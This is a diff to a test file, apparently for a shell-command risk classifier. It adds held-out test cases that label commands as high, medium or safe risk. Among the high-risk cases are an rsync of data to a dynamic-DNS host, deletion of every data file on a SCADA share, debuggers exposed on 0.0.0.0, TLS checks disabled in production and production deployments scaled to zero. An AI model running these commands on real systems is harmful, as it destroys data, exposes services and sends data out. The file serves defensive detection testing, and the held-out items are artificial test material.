@@ -3854,6 +3854,18 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             'npm ci && npm test',
             S,
         ),
+        # holdout208-211: debugger ports, TLS checks switched off, production scaled to zero, dynamic-DNS hosts,
+        # every data file of a share
+        ('pm2 start dist/server.js --name api --node-args="--inspect=0.0.0.0:9229"', H),
+        ('node --inspect=127.0.0.1:9229 server.js', S),
+        ('python -m debugpy --listen 0.0.0.0:5678 --wait-for-client app.py', H),
+        ('kubectl -n prod set env deployment/api UPSTREAM_TLS_VERIFY=false', H),
+        ('kubectl --context prod-eu -n dispatch scale deployment --all --replicas=0', H),
+        ('kubectl --context dev -n web scale deployment/api --replicas=0', S),
+        ("rsync -az -e 'ssh -p 2222' /srv/geology/seismic/ me@home.dyndns-server.net:/backup/seismic/", H),
+        ("find /mnt/scada_share -type f \\( -name '*.csv' -o -name '*.xlsx' \\) -delete", H),
+        ("find /srv/app/tmp -name '*.csv' -delete", M),
+        ("find /data/exports -name '*.csv' -mtime +7 -delete", M),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
